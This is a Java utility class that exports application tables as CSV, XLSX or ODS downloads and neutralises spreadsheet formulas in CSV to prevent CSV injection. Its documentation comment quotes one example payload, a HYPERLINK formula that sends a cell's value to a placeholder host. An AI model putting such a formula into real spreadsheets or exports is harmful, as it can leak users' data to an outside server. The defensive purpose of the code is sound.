package org.probity.shared.web;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStreamWriter;
import java.io.UncheckedIOException;
import java.io.Writer;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;

import org.springframework.http.ContentDisposition;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;

/**
 * The one export of Probity's tables: the same {@link Table}s as CSV, XLSX or ODS, for
 * every page and API that offers {@code format=csv|xlsx|ods}.
 *
 * <pre>
 * Table cases = Table.titled("Cases").text("CRN", "Name").number("Numerator").rows(rows);
 * return TableExport.response("SL001R-cases-2024-03", format, cases);
 * </pre>
 *
 * <p>
 * <b>Spreadsheet formulas are neutralised in CSV</b> (OWASP "CSV injection"): a text cell
 * that starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage return
 * is written with a leading {@code '}, so that a name such as
 * {@code =HYPERLINK("http://x/?"&A1,"click")} is shown as text, not run. Only text cells
 * are neutralised: a value of a {@link Table.Kind#NUMBER} column (a genuine negative
 * number such as {@code -2.5}) is written as it is, so that it stays a number. In XLSX
 * and ODS every text cell is written as a string cell (never a formula) and every number
 * as a number, so nothing needs neutralising there and text is written unchanged.
 */
public final class TableExport {

	/** The formats offered, by the value of the {@code format} parameter. */
	public enum Format {

		CSV("csv", new MediaType("text", "csv", StandardCharsets.UTF_8)),

		XLSX("xlsx", MediaType.parseMediaType("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")),

		ODS("ods", MediaType.parseMediaType("application/vnd.oasis.opendocument.spreadsheet"));

		private final String extension;

		private final MediaType mediaType;

		Format(String extension, MediaType mediaType) {
			this.extension = extension;
			this.mediaType = mediaType;
		}

		public String extension() {
			return this.extension;
		}

		public MediaType mediaType() {
			return this.mediaType;
		}

		/** The format a {@code format} parameter asks for; empty for none or another. */
		public static Optional<Format> of(String parameter) {
			if (parameter == null) {
				return Optional.empty();
			}
			for (Format f : values()) {
				if (f.extension.equals(parameter.trim().toLowerCase(Locale.ROOT))) {
					return Optional.of(f);
				}
			}
			return Optional.empty();
		}

	}

	private static final String FORMULA_STARTS = "=+-@\t\r";

	private TableExport() {
	}

	/** Whether a {@code format} parameter asks for an export. */
	public static boolean wanted(String format) {
		return Format.of(format).isPresent();
	}

	/**
	 * The tables as a download named {@code name} plus the format's extension.
	 * @throws IllegalArgumentException when the format is not one of {@link Format}
	 */
	public static ResponseEntity<byte[]> response(String name, String format, Table... tables) {
		Format f = Format.of(format)
			.orElseThrow(() -> new IllegalArgumentException("Choose an export format: csv, xlsx or ods"));
		return response(name, f, List.of(tables));
	}

	public static ResponseEntity<byte[]> response(String name, Format format, List<Table> tables) {
		return ResponseEntity.ok()
			.contentType(format.mediaType())
			.header(HttpHeaders.CONTENT_DISPOSITION,
					ContentDisposition.attachment()
						.filename(fileName(name) + "." + format.extension(), StandardCharsets.UTF_8)
						.build()
						.toString())
			.body(bytes(format, tables));
	}

	public static byte[] bytes(Format format, List<Table> tables) {
		return switch (format) {
			case CSV -> csv(tables);
			case XLSX -> xlsx(tables);
			case ODS -> ods(tables);
		};
	}

	/**
	 * A text cell as CSV writes it: with a leading {@code '} when a spreadsheet would
	 * take it for a formula.
	 */
	public static String neutralised(String text) {
		if (text == null || text.isEmpty()) {
			return (text != null) ? text : "";
		}
		return (FORMULA_STARTS.indexOf(text.charAt(0)) >= 0) ? "'" + text : text;
	}

	/**
	 * RFC 4180 CSV in UTF-8: one table as its header and rows; several as each title, its
	 * header and rows, with an empty line between them.
	 */
	public static byte[] csv(List<Table> tables) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (Writer writer = new OutputStreamWriter(out, StandardCharsets.UTF_8);
				CSVPrinter printer = new CSVPrinter(writer, CSVFormat.RFC4180)) {
			boolean several = tables.size() > 1;
			for (int t = 0; t < tables.size(); t++) {
				Table table = tables.get(t);
				if (several) {
					if (t > 0) {
						printer.println();
					}
					printer.printRecord(neutralised(table.title()));
				}
				printer.printRecord(table.headers().stream().map(TableExport::neutralised).toList());
				for (List<Object> row : table.rows()) {
					List<String> cells = new ArrayList<>(row.size());
					for (int c = 0; c < row.size(); c++) {
						cells.add(csvCell(table, c, row.get(c)));
					}
					printer.printRecord(cells);
				}
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	public static byte[] xlsx(List<Table> tables) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try {
			Workbook workbook = new Workbook(out, "Probity", "1.0");
			Set<String> names = new HashSet<>();
			for (Table table : tables) {
				Worksheet sheet = workbook.newWorksheet(sheetName(table.title(), names));
				List<String> headers = table.headers();
				for (int c = 0; c < headers.size(); c++) {
					sheet.value(0, c, xmlText(headers.get(c)));
					sheet.style(0, c).bold().set();
				}
				for (int r = 0; r < table.rows().size(); r++) {
					List<Object> row = table.rows().get(r);
					for (int c = 0; c < row.size(); c++) {
						Object value = cell(table, c, row.get(c));
						if (value instanceof Number number) {
							sheet.value(r + 1, c, number);
						}
						else if (value != null) {
							sheet.value(r + 1, c, xmlText((String) value));
						}
					}
				}
			}
			workbook.finish();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	/**
	 * An OpenDocument spreadsheet written directly: a zip of the {@code mimetype} (first
	 * and stored, as the standard asks), the manifest and {@code content.xml} with one
	 * {@code table:table} per table; strings as {@code office:value-type="string"},
	 * numbers as {@code "float"}.
	 */
	public static byte[] ods(List<Table> tables) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out, StandardCharsets.UTF_8)) {
			byte[] mimetype = "application/vnd.oasis.opendocument.spreadsheet".getBytes(StandardCharsets.US_ASCII);
			ZipEntry entry = new ZipEntry("mimetype");
			entry.setMethod(ZipEntry.STORED);
			entry.setSize(mimetype.length);
			CRC32 crc = new CRC32();
			crc.update(mimetype);
			entry.setCrc(crc.getValue());
			zip.putNextEntry(entry);
			zip.write(mimetype);
			zip.closeEntry();
			zip.putNextEntry(new ZipEntry("META-INF/manifest.xml"));
			zip.write(
					"""
							<?xml version="1.0" encoding="UTF-8"?>
							<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">
							 <manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>
							 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
							</manifest:manifest>
							"""
						.getBytes(StandardCharsets.UTF_8));
			zip.closeEntry();
			zip.putNextEntry(new ZipEntry("content.xml"));
			zip.write(odsContent(tables).getBytes(StandardCharsets.UTF_8));
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	private static String odsContent(List<Table> tables) {
		StringBuilder xml = new StringBuilder("""
				<?xml version="1.0" encoding="UTF-8"?>
				<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" \
				xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" \
				xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">
				<office:body><office:spreadsheet>
				""");
		Set<String> names = new HashSet<>();
		for (Table table : tables) {
			xml.append("<table:table table:name=\"").append(escape(sheetName(table.title(), names))).append("\">");
			xml.append("<table:table-row>");
			for (String header : table.headers()) {
				odsString(xml, header);
			}
			xml.append("</table:table-row>\n");
			for (List<Object> row : table.rows()) {
				xml.append("<table:table-row>");
				for (int c = 0; c < row.size(); c++) {
					Object value = cell(table, c, row.get(c));
					if (value instanceof Number number) {
						String plain = plain(number);
						xml.append("<table:table-cell office:value-type=\"float\" office:value=\"")
							.append(plain)
							.append("\"><text:p>")
							.append(plain)
							.append("</text:p></table:table-cell>");
					}
					else if (value != null) {
						odsString(xml, (String) value);
					}
					else {
						xml.append("<table:table-cell/>");
					}
				}
				xml.append("</table:table-row>\n");
			}
			xml.append("</table:table>\n");
		}
		return xml.append("</office:spreadsheet></office:body></office:document-content>\n").toString();
	}

	private static void odsString(StringBuilder xml, String text) {
		xml.append("<table:table-cell office:value-type=\"string\"><text:p>")
			.append(escape(text))
			.append("</text:p></table:table-cell>");
	}

	private static String csvCell(Table table, int column, Object value) {
		Object cell = cell(table, column, value);
		if (cell instanceof Number number) {
			return plain(number);
		}
		return (cell != null) ? neutralised((String) cell) : "";
	}

	/**
	 * What a cell holds: a {@link Number} when its column is a number column and the
	 * value is a finite number, null for an empty cell (a null, or NaN or an infinity in
	 * a number column), otherwise its text.
	 */
	private static Object cell(Table table, int column, Object value) {
		if (value == null) {
			return null;
		}
		boolean numeric = column < table.columns().size() && table.columns().get(column).kind() == Table.Kind.NUMBER;
		if (numeric && value instanceof Number n) {
			boolean finite = !((n instanceof Double d && (d.isNaN() || d.isInfinite()))
					|| (n instanceof Float f && (f.isNaN() || f.isInfinite())));
			return finite ? n : null;
		}
		return (value instanceof Boolean b) ? (b ? "Yes" : "No") : value.toString();
	}

	private static String plain(Number number) {
		if (number instanceof Double || number instanceof Float || number instanceof BigDecimal) {
			BigDecimal decimal = (number instanceof BigDecimal b) ? b : new BigDecimal(number.toString());
			return decimal.stripTrailingZeros().toPlainString();
		}
		return number.toString();
	}

	/**
	 * A sheet name both spreadsheet formats accept: at most 31 characters, none of
	 * {@code []:*?/\}, and unique in the workbook.
	 */
	private static String sheetName(String title, Set<String> taken) {
		String name = xmlText(title).replaceAll("[\\[\\]:*?/\\\\']", " ").strip();
		if (name.isEmpty()) {
			name = "Table";
		}
		name = (name.length() > 31) ? name.substring(0, 31) : name;
		String unique = name;
		for (int n = 2; !taken.add(unique.toLowerCase(Locale.ROOT)); n++) {
			String suffix = " " + n;
			unique = ((name.length() + suffix.length() > 31) ? name.substring(0, 31 - suffix.length()) : name) + suffix;
		}
		return unique;
	}

	private static String fileName(String name) {
		String cleaned = name.replaceAll("[^A-Za-z0-9._-]+", "-");
		return cleaned.isEmpty() ? "export" : cleaned;
	}

	/**
	 * Drops the characters XML 1.0 cannot hold (control characters other than tab and
	 * newlines).
	 */
	private static String xmlText(String text) {
		StringBuilder out = null;
		for (int i = 0; i < text.length(); i++) {
			char ch = text.charAt(i);
			boolean allowed = ch == '\t' || ch == '\n' || ch == '\r' || (ch >= 0x20 && ch != 0xFFFE && ch != 0xFFFF);
			if (!allowed && out == null) {
				out = new StringBuilder(text.substring(0, i));
			}
			else if (allowed && out != null) {
				out.append(ch);
			}
		}
		return (out != null) ? out.toString() : text;
	}

	private static String escape(String text) {
		return xmlText(text).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;");
	}

}
